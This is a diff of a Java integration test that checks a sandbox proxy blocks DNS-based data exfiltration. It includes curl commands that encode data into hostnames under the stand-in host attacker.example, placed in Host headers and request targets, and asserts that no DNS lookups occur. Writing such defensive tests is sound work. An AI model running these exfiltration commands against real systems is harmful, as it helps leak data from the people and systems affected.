@@ -24,7 +24,10 @@ import org.junit.jupiter.api.Test;
  */
 class DnsExfiltrationAttackIT {
 
-    private static final String POLICY = SandboxFixture.systemPolicy() + """
+    // exec_from_writable: the identity test below swaps a listed binary in the workdir
+    private static final String POLICY = SandboxFixture.systemPolicy()
+                    .replace("read_write: [/tmp]", "read_write: [/tmp]\n  exec_from_writable: true")
+            + """
             network_policies:
               api:
                 endpoints:
@@ -81,13 +84,14 @@ class DnsExfiltrationAttackIT {
             assertDeniedWithoutLookup(name);
         }
 
-        // Inside a tunnel the proxy allowed, the request's own Host header or target names nothing.
+        // Inside a tunnel the proxy allowed, the request's own Host header or target names nothing
+        // (a Host of another name is refused as such, without a lookup).
         String hostHeader = exfil("attacker.example");
         String absoluteTarget = exfil("attacker.example");
         AgentShell.Result header = sh("curl -sS -H 'Host: " + hostHeader + "' " + attack.https("ro.test", "/h"));
         AgentShell.Result target =
                 sh("curl -sS --request-target http://" + absoluteTarget + "/x " + attack.https("ro.test", "/a"));
-        assertThat(header.output()).isEqualTo("GET /h body=0\n");
+        assertThat(header.output()).contains("\"error\":\"host_mismatch\"");
         assertThat(target.output()).contains("origin-form");
         assertThat(attack.lookupsOf(hostHeader)).isZero();
         assertThat(attack.lookupsOf(absoluteTarget)).isZero();
